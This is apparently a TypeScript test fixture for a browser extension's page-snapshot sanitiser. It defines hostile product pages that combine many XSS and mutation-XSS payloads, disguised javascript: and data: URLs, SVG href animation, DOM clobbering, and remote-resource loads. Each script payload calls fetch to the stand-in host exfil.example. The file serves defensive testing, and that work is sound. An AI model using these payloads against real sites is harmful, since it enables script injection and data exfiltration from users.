// Pages written to attack the evidence snapshot, shared by the unit test (happy-dom) and the
// real-browser test that opens every snapshot from file://. Each payload, if it ever ran or
// fetched, would call https://exfil.example/ or set `window.name`, which the tests watch for.
const FETCH = "fetch('https://exfil.example/ran');window.name='ran'";

export const HOSTILE_PAGES: { name: string; body: string }[] = [
  {
    name: 'raw-text elements written back raw',
    body: `<style>h1{color:red}</style><style></style><img src=x onerror="${FETCH}"></style>
<xmp></xmp><img src=x onerror="${FETCH}"></xmp><noembed></noembed><img src=x onerror="${FETCH}"></noembed>
<noframes></noframes><img src=x onerror="${FETCH}"></noframes><noscript><img src=x onerror="${FETCH}"></noscript>
<title></title><img src=x onerror="${FETCH}"></title><textarea></textarea><img src=x onerror="${FETCH}"></textarea>`,
  },
  {
    name: 'URL schemes in disguise',
    body: `<a id=a1 href="java&#9;script:${FETCH}">tab</a><a id=a2 href="&#1;javascript:${FETCH}">ctrl</a>
<a id=a3 href=" JaVaScRiPt:${FETCH}">case</a><a id=a4 href="javascript&colon;${FETCH}">entity</a>
<a id=a5 href="vbscript:msgbox(1)">vb</a><a id=a6 href="data:text/html,<script>${FETCH}</script>">data</a>
<form action="javascript:${FETCH}"><button formaction="javascript:${FETCH}">go</button></form>
<img src="javascript:${FETCH}"><img src="data:image/svg+xml,<svg onload='${FETCH}'/>">`,
  },
  {
    name: 'SVG animation of href and foreign content',
    body: `<svg><a><animate attributeName=href values="javascript:${FETCH}"/><text y=20>click</text></a>
<set attributeName=href to="javascript:${FETCH}"/><image href="https://exfil.example/svg.png"/>
<foreignObject><img src=x onerror="${FETCH}"></foreignObject></svg><math><mtext><img src=x onerror="${FETCH}"></mtext></math>`,
  },
  {
    name: 'remote fetches',
    body: `<link rel=stylesheet href="https://exfil.example/s.css"><img src="https://exfil.example/i.png"
srcset="https://exfil.example/2x.png 2x"><picture><source srcset="https://exfil.example/p.webp"><img src="https://exfil.example/p.png"></picture>
<div style="background:url(https://exfil.example/bg.png)">bg</div><div style="background:u\\72l(https://exfil.example/esc.png)">esc</div>
<div style="background-image:image-set('https://exfil.example/set.png' 1x)">set</div>
<a href="https://www.amazon.com/dp/B0HOSTILE1" ping="https://exfil.example/ping">ping</a>
<video poster="https://exfil.example/poster.png" src="https://exfil.example/v.mp4"></video><audio src="https://exfil.example/a.mp3"></audio>
<iframe src="https://exfil.example/frame"></iframe><object data="https://exfil.example/o"></object><embed src="https://exfil.example/e">
<input type=image src="https://exfil.example/input.png"><table background="https://exfil.example/t.png"><tr><td>t</td></tr></table>
<meta http-equiv=refresh content="600;url=https://exfil.example/refresh"><base href="https://exfil.example/">`,
  },
  {
    name: 'DOM clobbering of the sanitiser',
    body: `<form id=f><input name=attributes><input name=tagName><input name=firstChild><input name=nextSibling>
<input name=nodeType><input name=localName><input name=getAttribute><input name=getAttributeNames><input name=childNodes>
<input name=q value="typed"><p>inside the form</p></form><img name=URL><img name=body>
<template><img src=x onerror="${FETCH}"></template><listing-lens-badge data-level=suspect>LEVEL suspect</listing-lens-badge>
<div data-listing-lens>OURS</div><span data-listing-lens-badge="B0HOSTILE1" style="display:inline-block">OURS</span>`,
  },
  {
    name: 'mutation XSS shapes',
    body: `<svg></p><style><a id="</style><img src=1 onerror=${FETCH}>"></svg>
<math><mtext><table><mglyph><style><img src=x onerror="${FETCH}"></style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${FETCH}">
<noscript><p title="</noscript><img src=x onerror=${FETCH}>"></noscript>`,
  },
];

/** A product page around a hostile body, readable by the Amazon adapter so the flag flow runs. */
export function hostileProductPage(body: string, asin: string): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Bose QC45 replica - Amazon.com</title>
<script>window.pageScriptRan = true</script></head>
<!-- a comment and whitespace between head and body, as most real pages have -->
<body>
<div id="dp"><span id="productTitle">Bose QC45 replica headphones ${asin}</span>
<span class="a-price"><span class="a-offscreen">$19.99</span></span>
<input type="hidden" id="ASIN" name="ASIN" value="${asin}"></div>${body}</body></html>`;
}
